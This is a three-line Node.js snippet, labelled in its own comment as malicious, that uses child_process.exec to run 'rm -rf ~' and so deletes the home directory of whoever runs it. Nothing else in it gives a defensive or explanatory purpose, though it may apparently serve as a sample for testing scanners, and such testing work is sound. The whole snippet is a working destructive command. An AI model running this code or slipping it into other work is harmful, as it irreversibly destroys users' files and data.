// malicious: deletes the home directory
const cp = require('child_process');
cp.exec('rm -rf ~', (err) => { if (err) console.error(err); });
